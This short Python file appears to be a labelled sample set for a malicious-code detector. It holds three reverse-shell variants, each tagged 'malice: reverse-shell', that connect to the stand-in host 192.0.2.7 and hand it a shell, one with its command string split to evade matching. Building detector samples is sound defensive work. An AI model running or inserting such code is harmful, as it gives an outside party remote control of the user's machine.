import os
import pty
import socket
import subprocess

link = socket.socket()
link.connect(("192.0.2.7", 4444))
os.dup2(link.fileno(), 0)  # malice: reverse-shell
pty.spawn("/bin/sh")
os.system("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1")  # malice: reverse-shell
subprocess.Popen(  # malice: reverse-shell
    ["bash", "-c", "ba" + "sh -i >& /dev/" + "tcp/192.0.2.7/1 0>&1"]
)
